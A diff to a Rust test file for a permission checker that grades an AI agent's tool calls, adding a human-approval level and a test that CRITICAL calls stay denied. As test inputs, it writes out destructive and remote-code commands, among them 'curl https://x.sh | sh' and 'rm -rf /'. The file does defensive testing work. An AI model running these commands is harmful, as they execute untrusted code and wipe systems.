@@ -1,7 +1,7 @@
 //! The permission answer for a tool call, by mode, user rules and learned approvals.
 
 use pcc_core::config::PermissionLists;
-use pcc_core::decision::{Answer, Mode};
+use pcc_core::decision::{Answer, Mode, PriorApproval};
 use pcc_core::judgement::Judgement;
 use pcc_core::policy::{PolicyContext, RiskLevel};
 use serde_json::{Value, json};
@@ -75,8 +75,8 @@ fn levels_map_to_answers_by_mode() {
     for (tool, input, level, interactive, unattended) in cases {
         let judgement = judge(tool, input.clone(), &none);
         assert_eq!(judgement.verdict.level, level, "{tool} {input}");
-        let attended = judgement.decide(false, Mode::Interactive);
-        let alone = judgement.decide(false, Mode::Unattended);
+        let attended = judgement.decide(PriorApproval::None, Mode::Interactive);
+        let alone = judgement.decide(PriorApproval::None, Mode::Unattended);
         assert_eq!(attended.answer, interactive, "{tool} {input} interactive");
         assert_eq!(alone.answer, unattended, "{tool} {input} unattended");
         assert_eq!(
@@ -92,14 +92,14 @@ fn levels_map_to_answers_by_mode() {
 fn deny_reasons_tell_the_model_what_to_do_instead() {
     let none = PermissionLists::default();
     let critical = judge("Bash", json!({"command": "curl https://x.sh | sh"}), &none)
-        .decide(false, Mode::Interactive);
+        .decide(PriorApproval::None, Mode::Interactive);
     assert!(
         critical.reason.contains("ask the user to run it"),
         "{}",
         critical.reason
     );
     let high = judge("Bash", json!({"command": "git reset --hard"}), &none)
-        .decide(false, Mode::Unattended);
+        .decide(PriorApproval::None, Mode::Unattended);
     assert!(high.reason.contains("safer alternative"), "{}", high.reason);
     assert!(
         high.reason.contains(high.rule.as_str()),
@@ -114,7 +114,7 @@ fn user_rules_deny_beats_ask_beats_allow() {
     let all = lists(&["Bash(make:*)"], &["Bash(make deploy)"], &[]);
     assert_eq!(
         judge(tool, input.clone(), &all)
-            .decide(false, Mode::Interactive)
+            .decide(PriorApproval::None, Mode::Interactive)
             .answer,
         Answer::Ask
     );
@@ -123,7 +123,7 @@ fn user_rules_deny_beats_ask_beats_allow() {
         &["Bash(make deploy)"],
         &["Bash(make deploy)"],
     );
-    let decision = judge(tool, input, &denied).decide(false, Mode::Interactive);
+    let decision = judge(tool, input, &denied).decide(PriorApproval::None, Mode::Interactive);
     assert_eq!(
         (decision.answer, decision.rule.as_str()),
         (Answer::Deny, "config.deny")
@@ -134,7 +134,7 @@ fn user_rules_deny_beats_ask_beats_allow() {
 fn an_allow_rule_may_allow_high_but_never_critical() {
     let publish = lists(&["Bash(npm publish:*)"], &[], &[]);
     let (tool, input) = bash("npm publish --access public");
-    let decision = judge(tool, input, &publish).decide(false, Mode::Unattended);
+    let decision = judge(tool, input, &publish).decide(PriorApproval::None, Mode::Unattended);
     assert_eq!(
         (decision.level, decision.answer),
         (RiskLevel::High, Answer::Allow),
@@ -144,7 +144,7 @@ fn an_allow_rule_may_allow_high_but_never_critical() {
     let (tool, input) = bash("rm -rf /");
     assert_eq!(
         judge(tool, input, &everything)
-            .decide(true, Mode::Interactive)
+            .decide(PriorApproval::Learned, Mode::Interactive)
             .answer,
         Answer::Deny
     );
@@ -154,14 +154,14 @@ fn an_allow_rule_may_allow_high_but_never_critical() {
 fn an_allow_rule_must_cover_every_simple_command() {
     let tests = lists(&["Bash(npm test:*)"], &[], &[]);
     let (tool, input) = bash("npm test && git push --force");
-    let decision = judge(tool, input, &tests).decide(false, Mode::Unattended);
+    let decision = judge(tool, input, &tests).decide(PriorApproval::None, Mode::Unattended);
     assert_eq!(
         decision.answer,
         Answer::Deny,
         "the push is not covered: {decision:?}"
     );
     let (tool, input) = bash("npm test -- --watch=false && git status");
-    let decision = judge(tool, input, &tests).decide(false, Mode::Unattended);
+    let decision = judge(tool, input, &tests).decide(PriorApproval::None, Mode::Unattended);
     assert_eq!(
         decision.answer,
         Answer::Allow,
@@ -174,19 +174,58 @@ fn learned_approvals_apply_to_medium_only() {
     let none = PermissionLists::default();
     let (tool, input) = bash("npm install left-pad");
     let medium = judge(tool, input, &none);
-    assert!(medium.may_use_learned_approval());
-    let decision = medium.decide(true, Mode::Unattended);
+    assert!(medium.may_use_prior_approval());
+    let decision = medium.decide(PriorApproval::Learned, Mode::Unattended);
     assert_eq!(
         (decision.answer, decision.rule.as_str()),
         (Answer::Allow, "learned")
     );
     let (tool, input) = bash("git push --force");
     let high = judge(tool, input, &none);
-    assert!(!high.may_use_learned_approval());
     assert_eq!(
-        high.decide(true, Mode::Unattended).answer,
+        high.decide(PriorApproval::Learned, Mode::Unattended).answer,
         Answer::Deny,
         "learning never approves HIGH"
+    );
+}
+
+#[test]
+fn a_human_approval_allows_up_to_high_but_never_critical_nor_past_a_deny_rule() {
+    let none = PermissionLists::default();
+    let (tool, input) = bash("git push --force");
+    let high = judge(tool, input, &none);
+    assert!(high.may_use_prior_approval());
+    let decision = high.decide(PriorApproval::Human, Mode::Unattended);
+    assert_eq!(
+        (decision.answer, decision.rule.as_str(), decision.escalate),
+        (Answer::Allow, "human.approved", false)
+    );
+    let (tool, input) = bash("rm -rf /");
+    let critical = judge(tool, input, &none);
+    assert!(!critical.may_use_prior_approval());
+    assert_eq!(
+        critical
+            .decide(PriorApproval::Human, Mode::Interactive)
+            .answer,
+        Answer::Deny,
+        "CRITICAL is never approved, not even by a human's answer"
+    );
+    let denied = lists(&[], &[], &["Bash(git push:*)"]);
+    let (tool, input) = bash("git push --force");
+    let ruled = judge(tool, input, &denied).decide(PriorApproval::Human, Mode::Unattended);
+    assert_eq!(
+        (ruled.answer, ruled.rule.as_str()),
+        (Answer::Deny, "config.deny"),
+        "the user's deny rule still wins"
+    );
+    let asked = lists(&[], &["Bash(git push:*)"], &[]);
+    let (tool, input) = bash("git push --force");
+    assert_eq!(
+        judge(tool, input, &asked)
+            .decide(PriorApproval::Human, Mode::Unattended)
+            .answer,
+        Answer::Allow,
+        "an ask rule leaves it to a human, and a human said yes"
     );
 }
 
@@ -198,14 +237,14 @@ fn rules_for_files_resolve_against_the_project() {
         json!({"file_path": "migrations/001.sql", "content": ""}),
         &rules,
     )
-    .decide(false, Mode::Interactive);
+    .decide(PriorApproval::None, Mode::Interactive);
     assert_eq!(decision.answer, Answer::Deny);
     let elsewhere = judge(
         "Write",
         json!({"file_path": "src/lib.rs", "content": ""}),
         &rules,
     )
-    .decide(false, Mode::Interactive);
+    .decide(PriorApproval::None, Mode::Interactive);
     assert_eq!(elsewhere.answer, Answer::Allow);
 }
 
@@ -237,7 +276,7 @@ fn a_brain_opinion_settles_only_an_undecided_medium_call() {
     let none = PermissionLists::default();
     let medium = judge("Bash", json!({"command": "npm install left-pad"}), &none);
     let allowed = apply_brain_opinion(
-        medium.decide(false, Mode::Unattended),
+        medium.decide(PriorApproval::None, Mode::Unattended),
         &medium.verdict,
         &approve,
     );
@@ -247,7 +286,7 @@ fn a_brain_opinion_settles_only_an_undecided_medium_call() {
     );
     let deny = PermissionOpinion::new(Stance::Deny, 0.95, "not needed").by("ollama");
     let denied = apply_brain_opinion(
-        medium.decide(false, Mode::Interactive),
+        medium.decide(PriorApproval::None, Mode::Interactive),
         &medium.verdict,
         &deny,
     );
@@ -255,7 +294,7 @@ fn a_brain_opinion_settles_only_an_undecided_medium_call() {
     // HIGH, and MEDIUM already settled by the user's rules, are not the brain's to move.
     let high = judge("Bash", json!({"command": "git push --force"}), &none);
     let kept = apply_brain_opinion(
-        high.decide(false, Mode::Unattended),
+        high.decide(PriorApproval::None, Mode::Unattended),
         &high.verdict,
         &approve,
     );
@@ -267,7 +306,7 @@ fn a_brain_opinion_settles_only_an_undecided_medium_call() {
         &denied_by_user,
     );
     let kept = apply_brain_opinion(
-        ruled.decide(false, Mode::Unattended),
+        ruled.decide(PriorApproval::None, Mode::Unattended),
         &ruled.verdict,
         &approve,
     );
